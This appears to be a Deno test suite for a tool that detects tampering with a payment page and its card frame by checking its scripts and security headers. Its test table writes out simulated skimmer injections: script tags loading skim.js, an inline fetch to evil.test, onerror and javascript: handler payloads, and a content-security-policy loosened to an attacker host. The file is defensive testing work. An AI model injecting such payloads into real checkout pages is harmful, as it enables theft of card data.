import { after, before, describe, it } from "@std/testing/bdd";
import { assert, assertEquals } from "@std/assert";
import { type RunningApp, startApp } from "../../tests/support/app/app.ts";
import { main } from "./payment_page.ts";
import { differences, type Inventory, takeInventory } from "./inventory.ts";

describe("the weekly check of the payment page", () => {
  let app: RunningApp;
  let kept: Inventory;
  let page = "";
  before(async () => {
    app = await startApp();
    page = `${app.origin}${app.base}/`;
    kept = await takeInventory(page);
  });
  after(() => app.close());

  type Change = (text: string, headers: Headers) => string;
  /** The page as seen through a network that changes the part named by `which`. */
  const through = (which: RegExp, change: Change) => async (url: string) => {
    const answer = await fetch(url);
    if (!which.test(url)) return answer;
    const headers = new Headers(answer.headers);
    return new Response(change(await answer.text(), headers), { status: answer.status, headers });
  };
  const foundWith = async (which: RegExp, change: Change) =>
    differences(kept, await takeInventory(page, through(which, change)));

  it("SECURITY B8: lists every script of app and card frame, and reports no difference for an unchanged page", async () => {
    const { app: files, cardFrame, client } = app.context.assets.manifest;
    const names = Object.keys(kept.scripts);
    const built = new Set([
      ...Object.keys(files).map((path) => app.origin + path),
      ...Object.keys(cardFrame).map((path) => app.frameOrigin + path),
    ]);
    assertEquals(names.filter((name) => !built.has(name)), []);
    assert(names.includes(`${app.origin}${client.en?.entry}`), names.join("\n"));
    assert(names.some((name) => name.startsWith(`${app.frameOrigin}/card/5/`)), names.join("\n"));
    // No document lists a lazily loaded module.
    const html = await (await fetch(`${page}?step=payment`)).text();
    const late = names.filter((name) => name.startsWith(app.origin) && !html.includes(new URL(name).pathname));
    assert(late.length > 20, `only ${late.length} scripts that are loaded late are known`);
    assertEquals(differences(kept, await takeInventory(page)), []);
  });

  const attacks: readonly (readonly [name: string, which: RegExp, change: Change, finds: RegExp])[] = [
    [
      "a skimmer's script in the page",
      /step=payment/,
      (html) => html.replace("</head>", '<script src="https://app.test.invalid/skim.js"></script></head>'),
      /skim\.js/,
    ],
    [
      "a script written into the page",
      /step=payment/,
      (html) => html.replace("</head>", "<script>fetch('//evil.test')</script></head>"),
      /added: page, inline/,
    ],
    [
      "a handler in the page",
      /step=payment/,
      (html) => html.replace("<body", '<body onload="steal()"'),
      /added: page, handler/,
    ],
    ...["<img/src=x onerror=steal()>", "<a href='#'onclick=steal()>", "<a href=javascript:steal()>"].map((tag) =>
      [
        `${tag} in the page`,
        /step=payment/,
        (html: string) => html.replace("</body>", `${tag}</body>`),
        /added: page, handler/,
      ] as const
    ),
    [
      "a script that a header preloads",
      /step=payment/,
      (html, headers) => {
        headers.append("link", "<https://app.test.invalid/skim.js>; rel=modulepreload");
        return html;
      },
      /skim\.js/,
    ],
    [
      "a script in the card frame",
      /\/card\/5\/\?v=/,
      (html) => html.replace("</head>", "<script>1</script></head>"),
      /added: card frame, inline/,
    ],
    [
      "a policy with a foreign host",
      /step=payment/,
      (html, headers) => {
        const policy = headers.get("content-security-policy") ?? "";
        headers.set(
          "content-security-policy",
          policy.replace("script-src 'self'", "script-src 'self' https://evil.test"),
        );
        return html;
      },
      /header changed: page content-security-policy/,
    ],
    [
      "a policy removed from the card frame",
      /\/card\/5\/\?v=/,
      (html, headers) => {
        headers.delete("content-security-policy");
        return html;
      },
      /header changed: card frame content-security-policy.* to nothing/,
    ],
  ];
  for (const [name, which, change, finds] of attacks) {
    it(`SECURITY B8: reports ${name}`, async () => {
      const load = through(which, change);
      // The attacker's own server need not respond.
      const now = await takeInventory(
        page,
        (url) => url.includes("skim.js") ? Promise.resolve(new Response("steal()")) : load(url),
      );
      const found = differences(kept, now);
      assertEquals(found.filter((line) => finds.test(line)).length, 1, found.join("\n"));
    });
  }

  it("SECURITY B8: keeps every security header that page and card frame send", async () => {
    let read = 0;
    await takeInventory(page, async (url) => {
      const answer = await fetch(url);
      const place = url.includes("step=payment") ? "page" : url.includes("/card/5/?v=") ? "card frame" : undefined;
      if (place === undefined) return answer;
      for (const [name, value] of answer.headers) {
        if (!/policy|security|options|reporting/.test(name)) continue;
        assertEquals(kept.headers[`${place} ${name}`], value);
        read++;
      }
      return answer;
    });
    assert(read > 10, `only ${read} headers were sent`);
  });

  it("SECURITY B8: reports one changed byte in any script, including lazy ones", async () => {
    for (const name of Object.keys(kept.scripts).filter((_, at) => at % 12 === 0)) {
      const found = await foundWith(
        new RegExp(`${name.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}$`),
        (code) => `${code} `,
      );
      assertEquals(found.map((line) => line.split(",")[0]), [`A script changed: ${name}`]);
    }
  });

  it("SECURITY B8: the task writes a list, exits with 0 while the page matches it and with 1 when it does not", async () => {
    const dir = await Deno.makeTempDir({ prefix: "payment-page-" });
    const list = `${dir}/list.json`;
    try {
      assertEquals(await main([page]), 2);
      assertEquals(await main([page, list, "--keep"]), 0);
      assertEquals(await main([page, list]), 0);
      const known: Inventory = JSON.parse(await Deno.readTextFile(list));
      const [first = ""] = Object.keys(known.scripts);
      await Deno.writeTextFile(
        list,
        JSON.stringify({ ...known, scripts: { ...known.scripts, [first]: "sha384-other" } }),
      );
      assertEquals(await main([page, list]), 1);
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  });
});
